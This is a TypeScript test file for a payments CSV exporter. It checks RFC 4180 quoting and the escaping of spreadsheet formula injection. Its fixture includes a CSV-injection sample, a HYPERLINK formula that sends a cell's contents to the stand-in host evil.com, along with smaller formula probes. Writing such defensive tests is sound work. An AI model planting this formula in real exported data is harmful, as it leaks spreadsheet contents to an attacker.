import { PAYMENT_CSV_COLUMNS, type PaymentMovement } from '@payrail/contracts';
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvField, csvLine } from '../src/adapters/http/payments-csv';

const movement: PaymentMovement = {
  id: '0195f6a4-0000-7000-8000-000000000001',
  kind: 'LINK_PAYMENT',
  status: 'succeeded',
  method: 'CARD',
  processor: 'PARAGUAY.PROCESSOR_A',
  amount: '200000.00',
  currency: 'PYG',
  refundedAmount: '0.00',
  cardBrand: 'VISA',
  cardLast4: '4242',
  processorReference: 'A-1',
  reference: null,
  paymentId: null,
  payRequestId: 900001,
  label: 'Plan "Gold", monthly',
  subscriptionId: null,
  installmentId: null,
  installmentNumber: null,
  handleValue: '+595981000111',
  handleLabel: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  customIdentifier: '@SUM(1+1)',
  customIdentifier2: '-2+3',
  declineCode: null,
  declineCategory: null,
  createdAt: '2026-11-20T23:59:59-03:00',
  settledAt: null,
};

describe('the export’s CSV fields', () => {
  it('quotes as RFC 4180 asks: a comma, a quote or a line break, its quotes doubled', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField(null)).toBe('');
    expect(csvField(900001)).toBe('900001');
  });

  it('guards text a spreadsheet would run as a formula with a leading quote (OWASP)', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+595981000111')).toBe("'+595981000111");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tTAB')).toBe("'\tTAB");
    // A carriage return also needs quotes: the guard first, then RFC 4180.
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
  });

  it('leaves what we write ourselves as it is: amounts, times, ids, text with a sign inside', () => {
    expect(csvField('200000.00')).toBe('200000.00');
    expect(csvField('2026-11-20T23:59:59-03:00')).toBe('2026-11-20T23:59:59-03:00');
    expect(csvField('ana@example.com')).toBe('ana@example.com');
    expect(csvField('Ana Gómez-Pérez')).toBe('Ana Gómez-Pérez');
    expect(csvField(0)).toBe('0');
  });

  it('writes a movement as one CRLF line in the header’s order, its customer text guarded', () => {
    expect(CSV_HEADER).toBe(`${PAYMENT_CSV_COLUMNS.join(',')}\r\n`);
    const line = csvLine(movement);
    expect(line.endsWith('\r\n')).toBe(true);
    expect(line).toBe(
      [
        '0195f6a4-0000-7000-8000-000000000001',
        'LINK_PAYMENT',
        'succeeded',
        'CARD',
        'PARAGUAY.PROCESSOR_A',
        '200000.00',
        'PYG',
        '0.00',
        'VISA',
        '4242',
        'A-1',
        '',
        '',
        '900001',
        '"Plan ""Gold"", monthly"',
        '',
        '',
        '',
        "'+595981000111",
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
        "'@SUM(1+1)",
        "'-2+3",
        '',
        '',
        '2026-11-20T23:59:59-03:00',
        '',
      ].join(',') + '\r\n',
    );
  });
});
